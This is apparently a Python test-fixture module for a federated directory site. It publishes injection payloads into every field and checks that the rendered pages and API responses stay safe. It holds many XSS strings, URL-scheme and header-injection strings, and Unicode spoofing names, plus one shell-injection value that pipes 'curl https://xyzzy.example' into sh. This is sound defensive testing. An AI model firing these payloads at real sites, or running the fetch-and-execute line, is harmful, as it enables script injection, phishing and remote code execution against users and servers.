"""What is written to reach the people in front of a browser, a terminal, a spreadsheet.

Here: payloads, URLs, characters, and publishing them in every field that holds text. Not here: any attack
(`test_people`, `web/test_hostile_in_chromium`).
"""

from __future__ import annotations

from typing import Any

from attacks.frame import Victim
from attacks.lies import again, list_bytes, scid_of
from localfed.app import search
from web.pages_read import Page

MARK = "xyzzy"
"""In every payload: wherever it stands, it came from there."""

PAYLOADS: dict[str, str] = {
    "a script": "<script>xyzzy()</script>",
    "a script after a title": "</title><script>xyzzy()</script>",
    "a script after a box": "</textarea></select></style><script>xyzzy()</script>",
    "a script after a script": "</script><script>xyzzy()</script>",
    "a script within a script": "<scr<script>ipt>xyzzy()</scr</script>ipt>",
    "a script without its end": "<script>xyzzy()//",
    "a picture that is not there": "<img src=x onerror=xyzzy()>",
    "a picture that counts": '<img src="https://xyzzy.example/pixel.gif">',
    "a picture with wide spaces": "<img\u2003src=x\u00a0onerror=xyzzy()>",
    "a drawing": "<svg onload=xyzzy()>",
    "a formula that changes its parser": "<math><mtext><table><mglyph><style><img src=x onerror=xyzzy()>",
    "a frame": '<iframe srcdoc="<script>xyzzy()</script>"></iframe>',
    "an object": '<object data="data:text/html,<script>xyzzy()</script>"></object>',
    "a base": "<base href=//xyzzy.example/>",
    "a refresh": '<meta http-equiv="refresh" content="0;url=//xyzzy.example/">',
    "a policy": '<meta http-equiv="Content-Security-Policy" content="default-src *"> xyzzy',
    "a style": "<style>@import '//xyzzy.example/x.css';</style>",
    "a sheet": '<link rel="stylesheet" href="//xyzzy.example/x.css">',
    "a form": "</form><form action=//xyzzy.example/><input name=q><button>Search",
    "details that open": "<details open ontoggle=xyzzy()>",
    "a dialog": "<dialog open><a href=//xyzzy.example>Sign in</a></dialog>",
    "a film": "<video poster=javascript:xyzzy()><source onerror=xyzzy()>",
    "a link": '<a href="javascript:xyzzy()">Jam</a>',
    "a link as text": "javascript:xyzzy()",
    "the end of an attribute": '" onmouseover="xyzzy()" x="',
    "the end of an attribute, singly": "' onmouseover='xyzzy()' x='",
    "the end of an attribute and a tag": '"><script>xyzzy()</script>',
    "a style in an attribute": '" style="background:url(//xyzzy.example/)" x="',
    "text that is escaped already": "&lt;script&gt;xyzzy()&lt;/script&gt;",
    "text that is escaped for URLs": "%3Cscript%3Exyzzy()%3C%2Fscript%3E",
    "text that is escaped for scripts": "\\u003cscript\\u003exyzzy()\\x3c/script\\x3e",
    "UTF-7": "+ADw-script+AD4-xyzzy()+ADw-/script+AD4-",
    "a template of ours": "{{ xyzzy.__class__ }}{% include 'about.html' %}",
    "a template of theirs": "${xyzzy()} #{xyzzy()} <%= xyzzy %> {{constructor.constructor('xyzzy()')()}}",
    "plain text to the end": "<plaintext>xyzzy",
    "a template element": "<template><script>xyzzy()</script></template>",
    "no script": '<noscript><p title="</noscript><img src=x onerror=xyzzy()>">',
    "data that is no data": "<![CDATA[<script>xyzzy()</script>]]>",
    "an instruction": "<?xml-stylesheet href='javascript:xyzzy()'?>",
    "a shell": "xyzzy'; curl https://xyzzy.example | sh; '",
    "wide brackets": "\uff1cscript\uff1exyzzy()\uff1c/script\uff1e",
}

SCRIPT_URLS: dict[str, str] = {
    "a script": "javascript:xyzzy()",
    "a script after a space": " javascript:xyzzy()",
    "a script after a control": "\x01javascript:xyzzy()",
    "a script over a tab": "java\tscript:xyzzy()",
    "a script over a line": "java\nscript:xyzzy()",
    "a script as an entity": "&#106;avascript:xyzzy()",
    "a script after a colon": "https:javascript:xyzzy()",
    "data": "data:text/html,<script>xyzzy()</script>",
    "data in base 64": "data:text/html;base64,PHNjcmlwdD54eXp6eSgpPC9zY3JpcHQ+",
    "VBScript": "vbscript:xyzzy()",
    "a blob": "blob:https://xyzzy.example/1",
    "a file": "file:///etc/xyzzy",
    "an intent": "intent://xyzzy#Intent;scheme=http;end",
    "a view": "view-source:https://xyzzy.example/",
    "no scheme": "//xyzzy.example/",
    "no host": "https:///xyzzy",
    "a path": "/../xyzzy",
    "backslashes": "https:\\\\xyzzy.example\\",
    "a name and a word": "https://victim.example:secret@xyzzy.example/",
    "a name that looks like a host": "https://victim.example@xyzzy.example/",
    "the end of an attribute": 'https://xyzzy.example/"onmouseover="xyzzy()',
    "the end of a tag": "https://xyzzy.example/><script>xyzzy()</script>",
    "a space": "https://victim.example xyzzy.example/",
    "a letter of elsewhere": "https://xyzzy.ex\u0430mple/",
    "a turn": "https://xyzzy.example/\u202egro.elpmaxe",
    "a line": "https://xyzzy.example/\r\nSet-Cookie: a=b",
    "ten thousand letters": "https://xyzzy.example/" + "x" * 10_000,
}

UNSEEN: dict[str, str] = {
    "that turns direction": "Victim\u202egro",
    "that embeds a direction": "Victim\u202bgro",
    "that isolates a direction": "\u2067Victim\u2069",
    "that marks a direction": "Vic\u200ftim",
    "that marks an Arabic direction": "Vic\u061ctim",
    "that has no width": "Vic\u200btim",
    "that joins": "Vic\u200dtim",
    "that does not join": "Vic\u200ctim",
    "that marks the order of bytes": "\ufeffVictim",
    "that ends a line": "Victim\nPublished by Victim",
    "that ends a line elsewhere": "Victim\u2028Published by Victim",
    "that ends a paragraph": "Victim\u2029Published by Victim",
    "that ends a line of old": "Victim\u0085",
    "that goes back": "Victimm\x08",
    "that goes to the start": "Mallory\rVictim ",
    "that escapes": "\x1b[2JVictim",
    "that escapes in one": "\x9b2JVictim",
    "that rings": "\x07Victim",
    "that ends a string": "Victim\x00Mallory",
    "that deletes": "Victimm\x7f",
}
"""Names: what cannot be seen in them makes one look like another."""

COMMON = {"location": [{"latitude": "54.6021", "longitude": "-2.3014"}]}


def drafts_of(text: str) -> list[dict[str, Any]]:
    """Write drafts that have a text in every field that takes one."""
    place = {
        "name": {"en": text},
        "address": {
            "streetAddress": text,
            "addressLocality": text,
            "addressRegion": text,
            "postalCode": text,
        },
        "latitude": "54.6021",
        "longitude": "-2.3014",
    }
    both = {
        "name": {"en": text, "cy": text},
        "description": {"en": f"{text}\n{text}", "cy": text},
        "category": [text],
        "keywords": [text, f"{text} 2"],
        "location": [place],
    }
    own = {
        **both,
        "type": "Organization",
        "legalForm": text,
        "identifier": [{"scheme": "GB-COH", "number": text}],
    }
    source = {"name": text, "edition": text, "license": text, "record": text}
    listed = {**own, "listed": True, "source": source}
    return [{**both, "type": "Offer"}, {**both, "type": "Need"}, listed, own]


async def publish_everywhere(victim: Victim, text: str, ids: list[str]) -> list[str]:
    """Let the friend publish a text in every field of every type, again under the same ids if there are."""
    made = []
    for number, draft in enumerate(drafts_of(text)):
        known = {"id": ids[number]} if ids else {}
        made.append(await victim.friend.publish({**draft, **known}))
    victim.federation.clock.advance(minutes=10)
    await victim.node.sync(victim.friend)
    await search.catch_up(victim.ports)
    return made


async def publish_signed(victim: Victim, of: str, **members: Any) -> str:
    """Let the friend sign a document anew with members that no draft may have, and list it."""
    path = victim.ids[of].removeprefix(victim.friend.did + "/")
    body = victim.friend.live(victim.friend)[path].body
    assert body is not None
    revision = victim.friend.live(victim.friend)[path].revision + 1
    signed = again(body, victim.friend.key, revision=revision, **members)
    await list_bytes(victim.friend, path, "Offer", signed)
    victim.federation.clock.advance(minutes=10)
    await victim.node.sync(victim.friend)
    await search.catch_up(victim.ports)
    return path


def pages_of(victim: Victim, ids: list[str]) -> list[str]:
    """Name every page on which what the friend publishes is seen."""
    scid = scid_of(victim.friend)
    documents = [one.partition("/")[2].removesuffix(".json") for one in ids[:3]]
    return [
        "/",
        "/?near=54.6,-2.3",
        "/?near=54.6,-2.3&view=map",
        "/organisations",
        f"/organisations/{scid}",
        *(f"/documents/{scid}/{path}" for path in documents),
    ]


def answers_of(victim: Victim, ids: list[str]) -> list[str]:
    """Name every address of the API that answers with what the friend publishes."""
    scid = scid_of(victim.friend)
    return [
        "/api/v1/search",
        "/api/v1/map",
        "/api/v1/organisations",
        f"/api/v1/organisations/{scid}",
        *(f"/api/v1/documents?id={one}" for one in ids),
        *(f"/api/v1/documents/{scid}/{one.partition('/')[2]}" for one in ids),
        *(f"/mirror/{scid}/{one.partition('/')[2]}" for one in ids),
    ]


def skeleton(page: Page) -> list[tuple[str, tuple[str, ...]]]:
    """Leave of a page its elements and the names of their attributes."""
    return [(name, tuple(attributes)) for name, attributes in page.elements]


def read_page(body: bytes) -> Page:
    """Read a page strictly: ours have no fault, no script but files of ours, and lead nowhere but by http, https and geo."""
    page = Page(body.decode())
    assert page.faults == []
    for name, attributes in page.elements:
        assert not [
            one
            for one in attributes
            if one.startswith("on")
            or one in {"style", "srcdoc"}
            # Which scripts there may be, reading the page has looked at.
            or (one == "src" and name != "script")
        ]
        for attribute in ("href", "action", "formaction"):
            target = attributes.get(attribute, "/")
            assert target.startswith(("/", "#", "https://", "http://", "geo:54.")), (name, target)
            assert not target.startswith("//")
            assert attribute == "href" or target in {"/", "/report"}
        if name == "link" and attributes["rel"] in {"stylesheet", "icon"}:
            assert attributes["href"].startswith("/static/")
    return page
